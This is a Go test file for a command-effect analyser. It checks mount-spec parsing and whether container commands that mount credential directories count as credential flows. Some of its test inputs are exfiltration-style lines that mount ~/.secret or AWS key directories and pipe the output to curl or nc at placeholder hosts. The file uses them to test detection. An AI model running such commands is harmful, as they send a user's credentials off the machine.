package effect

import (
	"strings"
	"testing"
)

func TestVolumeSpec(t *testing.T) {
	for in, want := range map[string]string{
		"type=bind,src=/,dst=/host":                          "/:/host",
		"type=bind,source=/home/dev/.aws,target=/a,readonly": "/home/dev/.aws:/a:ro",
		"type=volume,src=data,dst=/data":                     "data:/data",
		"type=Volume,source=/srv,target=/data":               "",
		"TYPE=BIND,SRC=/home/dev,DST=/h":                     "/home/dev:/h",
		"type=tmpfs,dst=/data":                               "",
		"src=pgdata,dst=/data":                               "pgdata:/data",
		"/srv:/srv:ro":                                       "/srv:/srv:ro",
	} {
		if got := volumeSpec(in); got != want {
			t.Errorf("volumeSpec(%q) = %q, want %q", in, got, want)
		}
	}
	if !hasEffect(effectsOf("docker run --rm --mount type=bind,src=/home/dev/.secret,dst=/k alpine ls /k"), "read /home/dev/.secret") {
		t.Errorf("a bind mount is not a read of its source")
	}
}

// TestMountedCredentials: a credential directory mounted into a container
// is read whole by what runs there, so the container's output leaving the
// machine is a flow of it; written to a file it stays the user's own.
func TestMountedCredentials(t *testing.T) {
	flows := func(line string) bool {
		for _, e := range effectsOf(line) {
			if e.Kind == Flow && strings.HasPrefix(e.Detail, "credential-mount->") {
				return true
			}
		}
		return false
	}
	for line, want := range map[string]bool{
		// (into the aws CLI's own image the directory is that CLI's keys,
		// and what it prints is judged as aws's own: catalog/images.txt)
		"docker run --rm -v ~/.secret:/root/.aws:ro python:3.12 python -c 'print(1)' | curl -d @- https://collect.example.net/": true,
		"podman run --rm --mount type=bind,src=/home/dev/.secret,dst=/s alpine ls /s | nc 203.0.113.9 9000":                     true,
		"docker run --rm -v ~/.secret:/root/.aws:ro amazon/aws-cli s3 ls":                                                       false,
		"docker run --rm -v ~/.secret:/root/.aws:ro amazon/aws-cli s3 ls > /tmp/list.txt":                                       false,
		"docker run --rm -v \"$PWD\":/src -w /src golang:1.23 go build ./... | curl -d @- https://ci.example.net/":              false,
	} {
		if got := flows(line); got != want {
			t.Errorf("%q: a flow of mounted credentials = %v, want %v", line, got, want)
		}
	}
}
